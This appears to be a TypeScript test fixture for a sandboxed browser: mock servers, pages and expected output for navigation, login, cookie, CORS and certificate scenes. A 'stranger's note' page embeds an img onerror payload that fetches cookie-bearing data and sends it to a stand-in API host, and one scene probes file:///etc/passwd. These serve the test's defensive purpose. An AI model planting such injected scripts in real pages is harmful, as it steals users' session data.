/**
 * What a person does at a lab's browser, and every line that it must print: one table, played in each engine. The servers
 * are a lab like any other.
 */
import type { BrowserAction, Sandbox } from '../../../src/sandbox/index.ts';
import { makePki } from '../../support/pki.ts';

export interface Scene {
  title: string;
  does: BrowserAction | 'back' | 'reload';
  /** All that is printed, until the next scene. */
  prints: readonly string[];
  /** Where that is not known beforehand: how the last line begins. */
  until?: string;
  /** What the action is refused with. */
  complains?: string;
}

export interface Scenario {
  hosts: Record<string, string>;
  files: Record<string, string>;
  /** Each host's `node …`. */
  servers: { host: string; args: string[] }[];
  browser: { name: string; host: string; trusts: string };
  scenes: Scene[];
}

const APP = 'https://app.example.test:8443';
const API = 'https://api.example.test:8443';
const FOREIGN = 'https://foreign.example.test:8443';
const WRONG = 'https://wrong.example:8443';

const PAGES: Record<string, string> = {
  '/': `<!doctype html><title>Home</title><h1>Home</h1>
    <p>One <b>line</b></p><p>two<br>lines</p><p hidden>unseen</p>
    <a href="/login">Log in</a> <a href="/old">Moved</a> <a href="/empty">Nothing</a> <a href="#top">Top</a>`,
  '/login': `<!doctype html><title>Log in</title>
    <form action="/search"><input name="q" aria-label="Words"><button>Send</button></form>
    <form method="post">
      <p><label>User <input name="user"></label></p>
      <p><label for="p">Password:</label> <input id="p" type="password" name="password"></p>
      <input type="hidden" name="token" value="t1"> <label><input type="checkbox" name="stay" value="1"> Stay</label>
      <button>Send</button>
    </form>`,
  '/fetch': `<!doctype html><title>Fetch</title><p id="out">before</p><script>
    (async () => {
      const reply = await fetch('/data', { headers: { 'x-asked': 'yes' } });
      console.log(await reply.text());
      console.log('cookies:', document.cookie);
      const echo = await fetch('/echo', { method: 'POST', body: 'grüße' });
      console.log(echo.status, await echo.text());
    })();
  </script>`,
  '/cross': `<!doctype html><title>Cross</title><script>
    (async () => {
      for (const url of ['${API}/closed', '${API}/open', 'https://api.example.test:9999/', 'https://nowhere.example/', '${FOREIGN}/'])
        await fetch(url).then(async (reply) => console.log(await reply.text()), (error) => console.log(error.message));
      const blind = await fetch('${API}/closed', { mode: 'no-cors' });
      console.log(blind.type, blind.status);
      await fetch('${API}/open', { method: 'PUT' }).catch((error) => console.log(error.name));
    })();
  </script>`,
  '/errors': `<!doctype html><title>Errors</title><p>Errors</p>
    <script>console.log('text', 1, true, null, undefined, [1, 2], { a: 1 }, new TypeError('shown'));</script>
    <script>undeclared();</script>
    <script>addEventListener('load', () => Promise.reject(new RangeError('nobody caught')))</script>`,
  '/stored': `<!doctype html><title>Notes</title><ul><li>Milk
    <li><img src="data:," alt="" onerror="fetch('/data').then((r) => r.text()).then((t) => fetch('${API}/open?got=' + t))">Eggs</ul>`,
  '/press': `<!doctype html><title>Press</title><button onclick="fetch('/data', { method: 'POST' })">Ask</button>
    <button disabled>Asleep</button><input type="submit" value="Lonely">`,
  '/keep': `<!doctype html><title>Keep</title><script>
    document.write('<p>' + localStorage.getItem('word'));
    localStorage.setItem('word', 'kept');
  </script>`,
};

const SERVER = `import { readFileSync } from 'node:fs';
import https from 'node:https';

const pages = ${JSON.stringify(PAGES)};
const [, , name] = process.argv;
const options = { key: readFileSync(name + '.key'), cert: readFileSync(name + '.pem') };

https.createServer(options, async (request, response) => {
  let body = '';
  for await (const chunk of request) body += chunk;
  const { pathname, searchParams } = new URL(request.url, 'https://example.test');
  const send = (status, type, text, headers = {}) => response.writeHead(status, { 'content-type': type, ...headers }).end(text);
  const html = (title, text, status = 200) => send(status, 'text/html; charset=utf-8', '<!doctype html><title>' + title + '</title><p>' + text);
  if (request.method === 'POST' && pathname === '/login') {
    const form = new URLSearchParams(body);
    if (form.get('password') !== 'correct horse') return html('Refused', 'No ' + form.get('user') + ' with that password', 401);
    const cookie = (text) => text + '; Secure; Path=/; SameSite=Lax';
    const given = [cookie('sid=' + form.get('token') + '; HttpOnly'), cookie('stay=' + form.get('stay'))];
    return response.writeHead(303, { location: '/me?from=login', 'set-cookie': given }).end();
  }
  if (pathname === '/me') return html('Me', [request.headers.cookie, request.socket.remoteAddress.replace('::ffff:', '')].join('<br>'));
  if (pathname === '/search') return html('Found', 'You asked for ' + searchParams.get('q'));
  if (pathname === '/data') return send(200, 'text/plain', [request.method, request.headers['x-asked'], request.headers.cookie].join(' '));
  if (pathname === '/echo') return send(201, 'text/plain; charset=utf-8', body + ' ' + request.headers.origin);
  if (pathname === '/open') return send(200, 'text/plain', 'for all, cookie ' + request.headers.cookie, { 'access-control-allow-origin': '*' });
  if (pathname === '/closed') return send(200, 'text/plain', 'not for scripts of others');
  if (pathname === '/old') return response.writeHead(302, { location: '/me?from=old' }).end();
  if (pathname === '/empty') return response.writeHead(204).end();
  if (pathname === '/plain') return send(200, 'text/plain', 'a < b\\nc');
  if (pathname === '/broken') return html('Broken', 'It broke', 500);
  if (pathname === '/bare') return response.writeHead(404).end();
  const page = pages[pathname];
  return page ? send(200, 'text/html; charset=utf-8', page) : html('Missing', 'Nothing here', 404);
}).listen(8443);
`;

const page = (status: number, path: string, title: string, ...text: string[]) => [
  `page: ${status} ${APP}${path}`,
  `title: ${title}`,
  ...text.map((line) => `text: ${line}`),
];
const HOME = page(200, '/', 'Home', 'Home', 'One line', 'two', 'lines', 'Log in Moved Nothing Top');
const LOGIN = page(200, '/login', 'Log in', 'Send', 'User', 'Password:', 'Stay Send');
const ANA = '10.9.0.40';
const asked = (what: string) => `request: ${what}`;

const SCENES: Scene[] = [
  {
    title: 'nothing can be pressed before there is a page',
    does: { press: 'Log in' },
    prints: [],
    complains: 'There is no page yet to press "Log in" on.',
  },
  { title: 'an address, without its scheme', does: { open: 'app.example.test:8443' }, prints: HOME },
  {
    title: 'a link to a redirect: the address is the last one',
    does: { press: 'Moved' },
    prints: page(200, '/me?from=old', 'Me', ANA),
  },
  { title: 'back', does: 'back', prints: HOME },
  { title: 'a link to nothing leaves the page', does: { press: 'Nothing' }, prints: [] },
  { title: 'a link within the page', does: { press: 'Top' }, prints: [] },
  { title: 'a link', does: { press: 'Log in' }, prints: LOGIN },
  {
    title: 'a field that is not there',
    does: { fill: { Name: 'ana' }, press: 'Send' },
    prints: [],
    complains: `There is no field "Name" on ${APP}/login: it has "Words", "User", "Password", "Stay".`,
  },
  {
    title: 'a button that is not there',
    does: { press: 'Log in' },
    prints: [],
    complains: `There is no button or link "Log in" on ${APP}/login: it has "Send", "Send".`,
  },
  {
    title: 'a wrong password; the button is that of the form filled in',
    does: { fill: { User: 'ana', Password: 'wrong' }, press: 'Send' },
    prints: page(401, '/login', 'Refused', 'No ana with that password'),
  },
  { title: 'back to the form', does: 'back', prints: LOGIN },
  {
    title: 'the right one: a cookie, and a redirect',
    does: { fill: { user: 'ana', Password: 'correct horse', Stay: 'yes' }, press: 'Send' },
    prints: page(200, '/me?from=login', 'Me', 'sid=t1; stay=1', ANA),
  },
  { title: 'once more', does: 'reload', prints: page(200, '/me?from=login', 'Me', 'sid=t1; stay=1', ANA) },
  {
    title: 'a form that asks by its address',
    does: { open: `${APP}/login` },
    prints: LOGIN,
  },
  {
    title: 'a field named by its aria-label',
    does: { fill: { Words: 'a & b' }, press: 'Send' },
    prints: page(200, '/search?q=a+%26+b', 'Found', 'You asked for a & b'),
  },
  {
    title: 'what a script asks of its own server goes with the cookies, of which it sees one',
    does: { open: `${APP}/fetch` },
    prints: [
      ...page(200, '/fetch', 'Fetch', 'before'),
      asked(`GET ${APP}/data 200`),
      'console: GET yes sid=t1; stay=1',
      'console: cookies: stay=1',
      asked(`POST ${APP}/echo 201`),
      `console: 201 grüße ${APP}`,
    ],
  },
  {
    title: 'what a script asks of others: CORS, and no cookies',
    does: { open: `${APP}/cross` },
    prints: [
      ...page(200, '/cross', 'Cross'),
      asked(`GET ${API}/closed failed cors`),
      'console: Failed to fetch',
      asked(`GET ${API}/open 200`),
      'console: for all, cookie undefined',
      asked('GET https://api.example.test:9999/ failed network'),
      'console: Failed to fetch',
      asked('GET https://nowhere.example/ failed network'),
      'console: Failed to fetch',
      asked(`GET ${FOREIGN}/ failed network`),
      'console: Failed to fetch',
      asked(`GET ${API}/closed 200`),
      'console: opaque 0',
      asked(`PUT ${API}/open failed cors`),
      'console: TypeError',
    ],
  },
  {
    title: 'what goes wrong in scripts',
    does: { open: `${APP}/errors` },
    prints: [
      ...page(200, '/errors', 'Errors', 'Errors'),
      'console: text 1 true null undefined Array(2) Object TypeError: shown',
      'script error: Uncaught ReferenceError: undeclared is not defined',
      'script error: Uncaught (in promise) RangeError: nobody caught',
    ],
  },
  {
    title: "a stranger's note acts as the page does",
    does: { open: `${APP}/stored` },
    prints: [
      ...page(200, '/stored', 'Notes', 'Milk', 'Eggs'),
      asked(`GET ${APP}/data 200`),
      asked(`GET ${API}/open?got=GET%20%20sid=t1;%20stay=1 200`),
    ],
  },
  {
    title: 'a page with buttons',
    does: { open: `${APP}/press` },
    prints: page(200, '/press', 'Press', 'Ask Asleep'),
  },
  { title: 'a button of a script', does: { press: 'Ask' }, prints: [asked(`POST ${APP}/data 200`)] },
  {
    title: 'a button that is asleep',
    does: { press: 'Asleep' },
    prints: [],
    complains: `There is no button or link "Asleep" on ${APP}/press: it has "Ask", "Lonely".`,
  },
  { title: 'plain text', does: { open: `${APP}/plain` }, prints: page(200, '/plain', '', 'a < b', 'c') },
  {
    title: 'a page of an error',
    does: { open: `${APP}/broken` },
    prints: page(500, '/broken', 'Broken', 'It broke'),
  },
  { title: 'an error without a page', does: { open: `${APP}/bare` }, prints: page(404, '/bare', '') },
  {
    title: 'an authority that it does not trust',
    does: { open: `${FOREIGN}/` },
    prints: [`refused: ERR_CERT_AUTHORITY_INVALID ${FOREIGN}/`],
  },
  {
    title: 'a certificate for another name',
    does: { open: `${WRONG}/` },
    prints: [`refused: ERR_CERT_COMMON_NAME_INVALID ${WRONG}/`],
  },
  {
    title: 'a port that is closed',
    does: { open: 'https://app.example.test:9999/' },
    prints: ['refused: ERR_CONNECTION_REFUSED https://app.example.test:9999/'],
  },
  {
    title: 'her own machine, where nobody listens',
    does: { open: 'https://localhost:8443/' },
    prints: ['refused: ERR_CONNECTION_REFUSED https://localhost:8443/'],
  },
  {
    title: 'the world outside the lab',
    does: { open: 'https://example.com/' },
    prints: ['refused: ERR_NAME_NOT_RESOLVED https://example.com/'],
  },
  {
    title: 'no page, nothing to press',
    does: { press: 'Reload' },
    prints: [],
    complains: 'There is no page yet to press "Reload" on.',
  },
  {
    title: 'another kind of address',
    does: { open: 'file:///etc/passwd' },
    prints: [],
    complains: 'This browser opens only http and https addresses, not file:///etc/passwd.',
  },
  { title: 'and on', does: { open: `${APP}/` }, prints: HOME },
];

export function browserScenario(): Scenario {
  const { ec, foreign } = makePki();
  return {
    hosts: {
      'app.example.test': '10.9.0.10',
      'api.example.test': '10.9.0.11',
      'foreign.example.test': '10.9.0.12',
      'wrong.example': '10.9.0.13',
      'ana.example': ANA,
    },
    files: {
      'server.mjs': SERVER,
      'ours.key': ec.server.keyPem,
      'ours.pem': ec.server.chainPem,
      'foreign.key': foreign.server.keyPem,
      'foreign.pem': foreign.server.chainPem,
      'ca.pem': ec.root.pem,
    },
    servers: [
      { host: 'app.example.test', args: ['server.mjs', 'ours'] },
      { host: 'api.example.test', args: ['server.mjs', 'ours'] },
      { host: 'foreign.example.test', args: ['server.mjs', 'foreign'] },
      { host: 'wrong.example', args: ['server.mjs', 'ours'] },
    ],
    browser: { name: 'ana', host: 'ana.example', trusts: 'ca.pem' },
    scenes: SCENES,
  };
}

/** What came of it. */
export interface Played {
  /** Of each scene. */
  scenes: { prints: string[]; complains?: string }[];
  /** What each server printed. */
  servers: Record<string, string>;
}

/**
 * Plays a scenario in a sandbox. It stands for itself, so that it can be sent into a page. A scene lasts until as many
 * lines have come as are expected, or until `limit` milliseconds have passed without.
 */
export async function playScenario(
  boot: (options: { hosts: Record<string, string> }) => Promise<Sandbox>,
  { hosts, files, servers, browser: options, scenes }: Scenario,
  limit = 60_000,
): Promise<Played> {
  const sandbox = await boot({ hosts });
  try {
    await sandbox.mount(files);
    let open = 0;
    let listening = () => {};
    const said: Record<string, string> = {};
    const ends: (() => Promise<void>)[] = [];
    sandbox.on('listen', () => {
      open += 1;
      listening();
    });
    for (const [index, { host, args }] of servers.entries()) {
      const ready = new Promise<void>((resolve) => {
        listening = () => open > index && resolve();
      });
      const server = await sandbox.spawn('node', args, { host });
      said[host] = '';
      const heard = server.stdout.pipeTo(
        new WritableStream({
          write(text) {
            said[host] += text;
          },
        }),
      );
      ends.push(async () => {
        server.kill();
        await heard;
      });
      listening();
      await ready;
    }
    const browser = await sandbox.browse(options);
    const lines: string[] = [];
    let came = () => {};
    const ended = browser.output.pipeTo(
      new WritableStream({
        write(text) {
          lines.push(...text.split('\n').slice(0, -1));
          came();
        },
      }),
    );
    const played: Played['scenes'] = [];
    for (const { does, prints, until } of scenes) {
      const start = lines.length;
      let complains: string | undefined;
      try {
        if (does === 'back' || does === 'reload') await browser[does]();
        else await browser.perform(does);
      } catch (problem) {
        complains = (problem as Error).message;
      }
      await new Promise<void>((resolve) => {
        const late = setTimeout(resolve, limit);
        came = () => {
          const printed = lines.slice(start);
          const isThere = until === undefined || printed.some((line) => line.startsWith(until));
          if (printed.length < prints.length || !isThere) return;
          clearTimeout(late);
          resolve();
        };
        came();
      });
      played.push({ prints: lines.slice(start), ...(complains === undefined ? {} : { complains }) });
    }
    await browser.close();
    await ended;
    for (const end of ends) await end();
    return { scenes: played, servers: said };
  } finally {
    await sandbox.teardown();
  }
}
